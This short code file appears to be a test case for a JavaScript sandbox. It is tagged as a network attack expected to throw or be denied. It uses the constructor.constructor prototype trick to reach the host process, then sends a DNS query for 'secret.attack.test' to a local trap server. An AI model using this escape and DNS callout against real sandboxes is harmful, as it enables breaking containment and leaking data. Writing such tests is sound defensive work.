// attack {"class":"network","attempt":"a DNS query sent to a server of the program's choice","effect":"network","ends":["threw","denied"],"bare":true}
const host = this.constructor.constructor("return process")();
const load = (name) => host.getBuiltinModule(name);

const resolver = new (load("dns").Resolver)({ timeout: 300, tries: 1 });
resolver.setServers(["127.0.0.1:{{trap.port}}"]);
await new Promise((resolve) => resolver.resolve4("secret.attack.test", resolve));
